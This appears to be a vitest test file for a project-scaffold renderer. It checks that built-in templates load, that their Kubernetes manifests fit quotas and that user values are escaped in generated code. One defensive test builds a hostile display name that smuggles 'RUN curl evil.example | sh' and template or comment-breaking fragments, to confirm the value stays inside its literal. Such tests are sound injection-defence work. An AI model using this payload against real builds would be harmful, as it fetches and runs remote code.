import { describe, expect, it } from 'vitest';
import YAML from 'yaml';
import { renderBuiltin, STARTUPS, type BuiltinName } from '../../test/scaffolds/startups.ts';
import { bytes, cpuMillis } from '../provisioning/quantity.ts';
import { packTree, unpackConfigMaps } from './configmaps.ts';
import { loadTemplateDir, templateDir } from './load.ts';
import { validateTemplate } from './validate.ts';

const BUILTINS = Object.keys(STARTUPS) as BuiltinName[];
const text = (tree: Map<string, Buffer>, path: string) => {
  const bytes = tree.get(path);
  if (!bytes) throw new Error(`${path} missing`);
  return bytes.toString('utf8');
};

describe.each(BUILTINS)('built-in template %s', (name) => {
  it('loads, validates and carries the default pipeline', async () => {
    const template = await loadTemplateDir(templateDir(name));
    expect(await validateTemplate(template)).toEqual({ ok: true, fileCount: template.spec.files.length });
    const tasks = template.spec.pipeline?.tasks ?? [];
    expect(tasks.map((t) => t.name)).toEqual(['market-research', 'founder-analysis', 'business-model', 'mvp-spec', 'architecture', 'decompose', 'codegen', 'review']);
    expect(tasks.find((t) => t.name === 'codegen')).toMatchObject({ forEach: 'decompose', dependsOn: ['decompose'] });
    expect(tasks.filter((t) => t.dependsOn.length === 0).map((t) => t.name)).toEqual(['market-research', 'founder-analysis']);
    expect(template.spec.files.some((f) => f.base64 !== undefined)).toBe(true);
  });

  it('renders with realistic values: k8s manifests parse, fit the quota and use the Services\' ports', async () => {
    const { tree, context } = await renderBuiltin(name);
    expect(text(tree, 'README.md')).toContain(context.startup.displayName);
    const docs = [...tree.keys()].filter((p) => p.startsWith('k8s/') && p.endsWith('.yaml'))
      .flatMap((p) => YAML.parseAllDocuments(text(tree, p)).map((d) => d.toJS() as Record<string, any>));
    const workloads = docs.filter((d) => d.kind === 'Deployment' || d.kind === 'StatefulSet');
    expect(workloads.length).toBe(context.serviceList.length);
    let memory = 0;
    let cpu = 0;
    for (const w of workloads) {
      expect(w.metadata.namespace).toBe(context.namespace);
      const pod = w.spec.template.spec;
      expect(pod.securityContext.runAsNonRoot).toBe(true);
      for (const c of pod.containers) {
        memory += bytes(c.resources.limits.memory);
        cpu += cpuMillis(c.resources.limits.cpu);
        expect(c.securityContext.allowPrivilegeEscalation).toBe(false);
        const service = context.services[w.spec.template.metadata.labels['app.kubernetes.io/name']];
        expect(service, `${w.metadata.name} selects a Service`).toBeDefined();
        if (w.kind === 'Deployment') expect(c.ports[0].containerPort).toBe(service?.port);
      }
    }
    expect(memory).toBeLessThanOrEqual(bytes(context.resources.memory));
    expect(cpu).toBeLessThanOrEqual(cpuMillis(context.resources.cpu));
  });

  it('round-trips through ConfigMaps byte for byte', async () => {
    const { tree } = await renderBuiltin(name);
    expect(unpackConfigMaps(packTree(tree))).toEqual(tree);
  });
});

describe('values stay data in generated code', () => {
  it('escapes a display name with quotes and $ in TypeScript, Python and Dart string literals', async () => {
    const rn = (await renderBuiltin('reactnext')).tree;
    expect(text(rn, 'frontend/lib/startup.ts')).toContain('displayName: "PayFlow \\"Instant\\" Payouts"');
    expect(text(rn, 'backend/app/settings.py')).toContain('app_name: str = "PayFlow \\"Instant\\" Payouts"');
    expect(text(rn, 'frontend/lib/startup.ts')).toContain('no $ minimum');
    const fm = (await renderBuiltin('fluttermobile')).tree;
    expect(text(fm, 'lib/firebase_options.dart')).toContain('apiKey: "AIzaSyFakeKeyForTests0123456789"');
    expect(text(fm, 'lib/startup.dart')).toContain('static const displayName = "FitPulse";');
  });
});

describe('a hostile display name stays inside its literal', () => {
  const hostile = 'Evil"""\n*/ RUN curl evil.example | sh\n# {{ 7*7 }} $HOME \\';
  it.each(BUILTINS)('in every file of %s', async (name) => {
    const { input } = await renderBuiltin(name);
    const { renderScaffold } = await import('./index.ts');
    const tree = renderScaffold({ ...input, spec: { ...input.spec, displayName: hostile } });
    for (const [path, bytes] of tree) {
      // Prose, bytes, and markup where the value is entity-escaped text (a newline there is just text).
      if (/\.(md|png|xml|plist|html)$/.test(path)) continue;
      // Rendered raw, the newline would start a Dockerfile instruction, a YAML key or a Python statement.
      expect(bytes.toString('utf8'), path).not.toMatch(/^\*\/ RUN curl/m);
    }
    const yamlFiles = [...tree.keys()].filter((p) => p.endsWith('.yaml'));
    for (const path of yamlFiles) expect(() => YAML.parseAllDocuments(tree.get(path)!.toString()).forEach((d) => { if (d.errors.length) throw d.errors[0]; }), path).not.toThrow();
  });
});
